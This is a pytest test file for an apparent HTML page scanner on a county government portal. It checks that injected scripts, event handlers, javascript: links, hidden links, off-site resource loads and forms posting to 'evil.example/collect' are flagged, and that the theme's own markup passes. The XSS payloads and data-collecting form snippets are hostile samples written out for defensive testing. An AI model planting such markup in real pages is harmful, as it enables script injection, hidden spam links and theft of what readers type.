"""Pages hold what the theme can emit, and nothing else that runs."""

from __future__ import annotations

from pathlib import Path

import pytest
from rules.county import TODAY, SampleCounty

from portalkit.rules.engine import PageContext, page_hits

CASES = Path(__file__).parent / "cases"
PAGE = (CASES / "TP003/good/output/index.html").read_bytes()


@pytest.fixture
def context(tmp_path: Path) -> PageContext:
    tree = SampleCounty.with_case(CASES / "TP003" / "good", tmp_path).tree
    return PageContext(tree=tree, today=TODAY, files={"theme/js/site.js", "theme/site.css", "theme/badge.svg"})


def codes(context: PageContext, code: str) -> set[str]:
    raw = PAGE.replace("<p>欢迎访问。</p>".encode(), f"<p>欢迎访问。</p>{code}".encode())
    assert raw != PAGE
    return {hit.code for hit in page_hits("index.html", raw, context) if hit.code.startswith("TP")}


@pytest.mark.parametrize(
    "code",
    [
        '<script src="/theme/js/site.js" defer></script>',
        '<script src="/theme/js/site.js"></script>',
        '<script type="application/ld+json">{"name": "县政府"}</script>',
        "<p>讲一讲 onclick= 是什么，javascript 是什么，style 是什么。</p>",
        '<a href="https://www.gov.cn/">中国政府网</a>',
        '<img src="/theme/badge.svg" alt="标识">',
    ],
)
def test_what_the_theme_can_emit_is_silent(context, code):
    assert codes(context, code) == set()


@pytest.mark.parametrize(
    "code",
    [
        "<script>alert(1)</script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        '<script src="/theme/js/other.js"></script>',
        '<script src="/theme/js/site.js">alert(1)</script>',
        '<script type="application/ld+json" src="/x.js"></script>',
        "<img src=x onerror=alert(1)>",
        '<p onmouseover="alert(1)">字</p>',
        "<p\nonclick='alert(1)'>字</p>",
        '<a href="javascript:alert(1)">字</a>',
        '<a href=" JavaScript:alert(1)">字</a>',
        '<iframe src="/a.html"></iframe>',
        '<object data="/a.swf"></object>',
        '<embed src="/a.swf">',
        '<meta http-equiv="refresh" content="0;url=/x">',
        '<base href="/x/">',
        "<marquee>字</marquee>",
        '<div style="position:absolute;left:-9999px">字</div>',
        '<div\tstyle ="font-size:0">字</div>',
        '<form action="/search/"><button formaction="https://evil.example/">查</button></form>',
    ],
)
def test_what_runs_or_hides_and_is_not_the_theme_s_is_told(context, code):
    assert "TP003" in codes(context, code)


@pytest.mark.parametrize(
    "code",
    [
        '<div hidden><a href="https://evil.example/">词</a></div>',
        '<div style="display:none"><a href="https://evil.example/">词</a></div>',
        '<template><a href="//evil.example/">词</a></template>',
    ],
)
def test_a_link_that_nobody_sees_is_told(context, code):
    assert "TP004" in codes(context, code)


@pytest.mark.parametrize(
    "code",
    [
        '<img src="https://evil.example/a.png" alt="图">',
        '<script src="https://cdn.jsdelivr.net/a.js"></script>',
        '<link rel="stylesheet" href="//fonts.googleapis.com/css">',
        "<style>@import url(https://evil.example/a.css)</style>",
        '<link rel="preconnect" href="https://evil.example/">',
    ],
)
def test_what_comes_from_elsewhere_is_told(context, code):
    assert "TP005" in codes(context, code)


@pytest.mark.parametrize(
    "code",
    [
        '<video poster="https://evil.example/1.jpg"></video>',
        '<table background="//evil.example/1.gif"><tr><td>字</td></tr></table>',
        '<link rel="preload" as="image" imagesrcset="https://evil.example/1.png 2x">',
        '<input type="image" src="https://evil.example/1.png" alt="查">',
        '<audio><track src="https://evil.example/1.vtt"></audio>',
        '<svg><image href="https://evil.example/1.png"/></svg>',
        '<svg><use xlink:href="https://evil.example/a.svg#b"/></svg>',
        '<img srcset="https://evil.example/1.png 2x" alt="图">',
    ],
)
def test_whatever_makes_a_browser_load_from_elsewhere_is_told(context, code):
    assert "TP005" in codes(context, code)


@pytest.mark.parametrize(
    "code",
    [
        '<form action="https://evil.example/collect"><input name="id"></form>',
        "<FORM method=post action=//evil.example/collect><input name=id></FORM>",
        "<form class=\"x\" action='https://evil.example/'><button>领取补贴</button></form>",
    ],
)
def test_a_form_that_hands_what_readers_type_to_others_is_told(context, code):
    assert "TP003" in codes(context, code)


@pytest.mark.parametrize(
    "code",
    [
        '<form action="/search/"><input name="q"></form>',
        '<form action="https://www.shili.gov.cn/search/"><input name="q"></form>',
        '<p><a href="https://www.gov.cn/"><img src="/theme/badge.svg" alt="中国政府网"></a></p>',
        '<video poster="/theme/badge.svg"></video>',
    ],
)
def test_a_form_and_a_poster_of_the_portal_itself_are_silent(context, code):
    assert codes(context, code) == set()


@pytest.mark.parametrize(
    ("style", "hides"),
    [
        ("opacity:0", True),
        ("opacity: 0.0", True),
        ("opacity:0.9", False),
        ("font-size:0px", True),
        ("font-size:0.9em", False),
        ("text-indent:-9999px", True),
        ("text-indent:-1em", False),
    ],
)
def test_what_a_style_hides(context, style, hides):
    told = codes(context, f'<p style="{style}"><a href="https://evil.example/">词</a></p>')
    assert ("TP004" in told) is hides
